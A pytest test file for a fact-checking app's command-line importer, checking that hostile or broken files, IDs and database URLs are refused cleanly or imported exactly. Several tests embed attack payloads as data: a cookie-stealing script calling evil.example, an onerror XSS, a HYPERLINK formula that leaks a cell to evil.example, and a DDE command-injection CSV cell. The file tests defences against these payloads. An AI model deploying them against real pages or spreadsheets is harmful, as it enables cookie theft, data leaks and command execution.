"""Hostile and broken input through the command line, as a user would feed it: each refused
with one clear line and nothing stored, or imported exactly, never a crash or a traceback."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.cli.test_cli import Cli, claims_of, database_snapshot


@pytest.fixture
def run(sqlite_url: str) -> Cli:
    return Cli(sqlite_url)


def _import_demo(run: Cli, folder: Path, text: str) -> int:
    path = folder / "demo.txt"
    path.write_text(text, encoding="utf-8")
    return run.json("import", str(path))[0]["article_id"]


def test_fifty_megabytes_is_refused_before_reading(run: Cli, tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:
        handle.truncate(50 * 1024 * 1024)  # sparse: 50 MB on paper, no disk or memory used
    line = run.fails("import", str(path), message="limit")
    assert "huge.txt" in line and "52,428,800 bytes" in line
    assert run.json("articles") == []


def test_mixed_encodings_are_refused_naming_the_file(run: Cli, tmp_path: Path) -> None:
    path = tmp_path / "mixed.txt"
    path.write_bytes("The minister’s café said so.".encode() + " Déjà vu, naïve.".encode("latin-1"))
    line = run.fails("import", str(path), message="mixed.txt")
    assert "encoding" in line
    assert run.json("articles") == []


def test_an_extremely_long_line_imports_with_exact_offsets(run: Cli, tmp_path: Path) -> None:
    text = "word " * 800_000  # 4 MB on one line, no sentence end anywhere
    path = tmp_path / "long.txt"
    path.write_text(text, encoding="utf-8")
    imported = run.json("import", str(path))
    assert imported[0]["claims"] >= 1
    stored = run.json("article", "show", str(imported[0]["article_id"]))
    body = stored["text"]
    for claim in claims_of(run, imported[0]["article_id"]):
        assert body[claim["start"] : claim["end"]] == claim["text"]


def test_deeply_nested_html_imports_its_text(run: Cli, tmp_path: Path) -> None:
    path = tmp_path / "deep.html"
    path.write_bytes(b"<div>" * 50_000 + b"The deep sentence survives." + b"</div>" * 50_000)
    imported = run.json("import", str(path))
    assert [c["text"] for c in claims_of(run, imported[0]["article_id"])] == [
        "The deep sentence survives."
    ]


def test_html_with_scripts_keeps_the_prose_and_drops_the_code(run: Cli, tmp_path: Path) -> None:
    path = tmp_path / "scripted.html"
    path.write_text(
        "<html><head><title>Minister speaks</title>"
        "<script>document.location='http://evil.example/?c='+document.cookie</script></head>"
        "<body><p>The minister said the talks went well.</p>"
        "<img src=x onerror=alert(1)><script>alert('SECRET')</script></body></html>",
        encoding="utf-8",
    )
    imported = run.json("import", str(path))
    texts = [c["text"] for c in claims_of(run, imported[0]["article_id"])]
    assert "The minister said the talks went well." in texts
    assert not [t for t in texts if "SECRET" in t or "cookie" in t or "onerror" in t]


def test_a_failed_file_in_a_batch_changes_nothing_for_it(
    run: Cli, tmp_path: Path, demo_text: str
) -> None:
    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "good.txt").write_text(demo_text, encoding="utf-8")
    (folder / "binary.txt").write_bytes(b"%PDF-1.7\n\x00\x01\x02")
    (folder / "empty.md").write_bytes(b"")
    result = run("import", str(folder), "--recursive", "--json")
    assert result.exit_code == 1  # some files failed; the summary says which
    assert "binary.txt" in result.stderr and "empty.md" in result.stderr
    assert "1 imported" in result.stderr
    assert [a["title"] for a in run.json("articles")] == [demo_text.splitlines()[0].strip()]


def test_unknown_ids_and_out_of_range_values_change_nothing(
    run: Cli, tmp_path: Path, demo_text: str
) -> None:
    article = _import_demo(run, tmp_path, demo_text)
    claim = claims_of(run, article)[0]["claim_id"]
    before = database_snapshot(run)
    run.fails("claim", "split", str(claim), "--", "-1", message="not inside")
    run.fails("claim", "add", str(article), "10", "99999999", message="outside the article")
    run.fails("rate", str(claim), "--reviewer", "ana", "--reliability", "Z", message="A–F")
    run.fails("rate", str(claim), "--reviewer", "ana", "--credibility", "0", message="1–6")
    run.fails("claims", "123456", message="does not exist")
    assert database_snapshot(run) == before


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("postgresql+psycopg://postgres:s3cret@127.0.0.1:1/nowhere", "connection"),
        ("not a url at all", "not a valid database URL"),
        ("mysql://ana:s3cret@localhost/db", "works with SQLite"),
        ("sqlite:////proc/no/such/dir/x.db", "cannot open SQLite"),
    ],
)
def test_an_unreachable_database_is_one_line_without_its_password(url: str, message: str) -> None:
    line = Cli(url).fails("articles", message=message)
    assert "s3cret" not in line
    assert line.startswith("error: cannot open")


def test_the_app_binds_to_loopback_unless_configured() -> None:
    import tomllib

    from tests.conftest import ROOT

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["address"] == "127.0.0.1"
    script = (ROOT / "scripts" / "run.sh").read_text(encoding="utf-8")
    assert '--server.address "${FACTCHECK_ADDRESS:-127.0.0.1}"' in script


def test_a_ratings_csv_with_formula_payloads_is_stored_as_text_and_exported_safe(
    run: Cli, tmp_path: Path, demo_text: str
) -> None:
    article = _import_demo(run, tmp_path, demo_text)
    claim = claims_of(run, article)[2]["claim_id"]
    run.ok("rate", str(claim), "--reviewer", "ana", "--reliability", "B", "--credibility", "2")
    rows = list(csv.DictReader(io.StringIO(run.ok("export").stdout)))
    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    rows[0]["notes"] = payload
    rows[0]["speaker"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[0]["rated_at"] = "2099-01-01T00:00:00Z"
    offline = tmp_path / "offline.csv"
    with offline.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    run.ok("merge-ratings", str(offline))
    exported = next(csv.DictReader(io.StringIO(run.ok("export").stdout)))
    assert exported["notes"] == "'" + payload
    assert exported["speaker"].startswith("'@SUM")
